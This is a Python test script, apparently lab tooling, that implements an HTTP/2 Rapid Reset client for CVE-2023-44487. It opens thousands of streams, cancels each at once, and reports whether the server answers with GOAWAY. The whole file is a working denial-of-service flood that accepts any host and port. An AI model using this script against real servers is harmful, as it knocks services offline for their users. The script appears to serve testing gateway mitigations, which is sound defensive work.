"""A rapid-reset client for the lab (CVE-2023-44487): opens streams and resets them at once.

    python tests/h2_rapidreset.py --cafile ROOT --host IP --port P --sni NAME --streams N

It speaks h2 (the h2 library over Python ssl), sends N requests each followed
by RST_STREAM(CANCEL) in writes of 100 pairs, then reads until the
connection ends.  It prints JSON: the ALPN, the streams it sent, and the
GOAWAY it got (error code name and last stream id), if any.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def flood(args: argparse.Namespace) -> dict[str, Any]:
    context = ssl.create_default_context(cafile=args.cafile)
    context.set_alpn_protocols(["h2"])
    result: dict[str, Any] = {"goaway": None, "sent": 0}
    with socket.create_connection((args.host, args.port), timeout=30) as raw:
        with context.wrap_socket(raw, server_hostname=args.sni) as sock:
            result["alpn"] = sock.selected_alpn_protocol()
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            fields = [(":method", "GET"), (":scheme", "https"), (":authority", args.sni), (":path", "/")]
            try:
                for n in range(args.streams):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, fields, end_stream=True)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    result["sent"] += 1
                    if n % 100 == 99:
                        sock.sendall(conn.data_to_send())
                sock.sendall(conn.data_to_send())
            except (OSError, ssl.SSLError):
                pass  # the gateway closed the connection mid-flood
            _readToEnd(sock, conn, result)
    return result


def _readToEnd(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, result: dict[str, Any]) -> None:
    while True:
        try:
            data = sock.recv(65536)
        except (OSError, ssl.SSLError):
            return
        if not data:
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                code = event.error_code
                result["goaway"] = {"code": getattr(code, "name", str(code)), "last_stream_id": event.last_stream_id}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--cafile", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sni", required=True)
    parser.add_argument("--streams", type=int, default=5000)
    print(json.dumps(flood(parser.parse_args())))


if __name__ == "__main__":
    main()
